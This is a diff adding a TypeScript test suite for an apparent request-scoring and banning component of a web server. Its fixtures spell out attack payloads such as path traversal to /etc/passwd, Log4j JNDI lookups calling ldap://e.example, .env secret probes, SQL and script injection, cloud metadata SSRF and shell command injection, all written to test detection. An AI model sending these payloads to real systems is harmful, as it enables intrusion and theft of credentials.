@@ -1,0 +1,118 @@
+import { type Asked, play } from './scene.spec-support.js';
+
+const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';
+const asked = (url: string, more: Partial<Asked> = {}): Asked => ({
+  url,
+  headers: { 'user-agent': browser },
+  ...more,
+});
+
+/** What an app of one page answers to everything. */
+const FALLBACK = { status: 200, route: '/{*path}' };
+
+/** Half of what bans, or more, at the first request. */
+const CERTAIN: readonly (readonly [string, string])[] = [
+  ['a way out of the folder', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'],
+  ['the same, encoded twice', '/a/%252e%252e/%252e%252e/%252e%252e/etc/passwd'],
+  ['the same in overlong UTF-8', '/a?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd'],
+  ['the same with backslashes', '/a/..%5c..%5c..%5cwindows/win.ini'],
+  ['the same with parameters of segments', '/..;/manager/html'],
+  ['a look-up of log4j', '/?q=$%7Bjndi:ldap://e.example/a%7D'],
+  ['the same in pieces', '/?q=$%7B$%7B::-j%7D$%7B::-n%7Ddi:ldap://e.example/a%7D'],
+  ['a wrapper of PHP', '/?page=php://filter/convert.base64-encode/resource=index'],
+  ['an interpreter that is called', '/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array'],
+  ["Java's own folder", '/s/x/_/;/WEB-INF/web.xml'],
+  ['a solution of Ignition', '/_ignition/execute-solution'],
+  ['a web shell', '/uploads/c99.php'],
+  ['a file with secrets', '/.env'],
+  ['its backup', '/api/.env.bak'],
+  ['the same in disguise', '/./%252eenv;x=y'],
+];
+
+describe('what no honest client asks for', () => {
+  it.each(CERTAIN)('counts half or more at once, whatever an app of one page answers: %s', async (_, url) => {
+    for (const answer of [{}, FALLBACK, { status: 401 }]) {
+      const { share } = await play([asked(url, answer)]);
+      expect(share).toBeGreaterThanOrEqual(0.5);
+    }
+  });
+
+  it('counts little where a handler that names the path has served it, or another site made a browser ask', async () => {
+    const served = await play([asked('/search?q=$%7Bjndi:ldap://x/a%7D', { status: 200, route: '/search' })]);
+    expect(served.share).toBeLessThanOrEqual(0.1);
+    const headers = { 'user-agent': browser, 'sec-fetch-site': 'cross-site' };
+    const { share } = await play([asked('/.env', { headers })]);
+    expect(share).toBeLessThanOrEqual(0.05);
+  });
+
+  it('counts in full in a header that logs keep', async () => {
+    const headers = { 'user-agent': browser, referer: '$' + '{jndi:ldap://e.example/a}' };
+    const { share } = await play([asked('/search', { status: 200, route: '/search', headers })]);
+    expect(share).toBeGreaterThanOrEqual(0.5);
+  });
+});
+
+const INJECTIONS: readonly (readonly [string, string])[] = [
+  ['SQL that is always true', "/a?id=1'%20or%20'1'='1"],
+  ['SQL in comments', '/a?id=1/**/oR/**/1=1'],
+  ['SQL that takes its time', '/a?id=1%20and%20sleep(5)'],
+  ['a script', '/a?q=%3Cscript%3Ealert(1)%3C/script%3E'],
+  ['a handler in an element', '/a?q=%3Cimg%20src=x%20onerror=alert(1)%3E'],
+  ['a script in entities', '/a?q=%26lt;script%26gt;'],
+  ['a template', '/a?q=%7B%7B7*7%7D%7D'],
+  ['an expression', '/a?q=%23%7B7*7%7D'],
+  ['an operator of a database', '/a?user[$ne]=x'],
+  ['a name that all objects have', '/a?__proto__[admin]=1'],
+  ["the cloud's answers about a machine", '/a?url=http://169.254.169.254/latest/meta-data'],
+  ['a header', '/a?q=x%0d%0aSet-Cookie:%20a=b'],
+  ['a shell', '/a?host=x;cat%20/etc/hosts'],
+];
+
+describe('an injection', () => {
+  it.each(INJECTIONS)('counts by what it is, not by its numbers: %s', async (_, url) => {
+    const once = await play([asked(url, FALLBACK)]);
+    expect(once.share).toBeGreaterThanOrEqual(0.2);
+    const again = await play([url, url.replaceAll('1', '2')].map((each) => asked(each, FALLBACK)));
+    expect(again.bannedBy).toEqual([]);
+  });
+
+  it('after another bans, in whichever parameter', async () => {
+    const { bannedBy, after } = await play(INJECTIONS.map(([, url]) => asked(url, FALLBACK)));
+    expect(bannedBy).toHaveLength(1);
+    expect(after).toBeLessThanOrEqual(6);
+  });
+});
+
+describe('who takes their time', () => {
+  it('is banned for paths that nobody has, one in three seconds', async () => {
+    const paths = Array.from({ length: 800 }, (_, index) => asked(`/page-${index}`, { after: 3 }));
+    expect(await play(paths)).toMatchObject({ bannedBy: ['path-probing'], after: 600 });
+  });
+
+  it('is banned for two thousand values of one parameter', async () => {
+    const ids = Array.from({ length: 2_000 }, (_, id) =>
+      asked(`/coupon?code=${id}`, { route: '/coupon', after: 1 }),
+    );
+    expect((await play(ids)).bannedBy).toEqual(['id-probing']);
+  });
+
+  it('is banned for guesses at a handler that has not said what they are', async () => {
+    const guess = { method: 'POST', status: 401, route: '/login', after: 5 };
+    const guesses = Array.from({ length: 1_000 }, () => asked('/login', guess));
+    expect((await play(guesses)).bannedBy).toEqual(['refused-attempts']);
+  });
+
+  it('is banned where all that is unknown is closed', async () => {
+    const paths = Array.from({ length: 100 }, (_, index) =>
+      asked(`/p${index}`, { status: 401, route: '/{*path}' }),
+    );
+    expect((await play(paths)).bannedBy).toEqual(['path-probing']);
+  });
+});
+
+it('mistakes of somebody known are never charged to the address', async () => {
+  const misses = Array.from({ length: 900 }, (_, id) =>
+    asked(`/orders/${id}`, { route: '/orders/:id', user: 'ada' }),
+  );
+  expect(await play(misses)).toMatchObject({ bannedBy: [], share: 0 });
+});
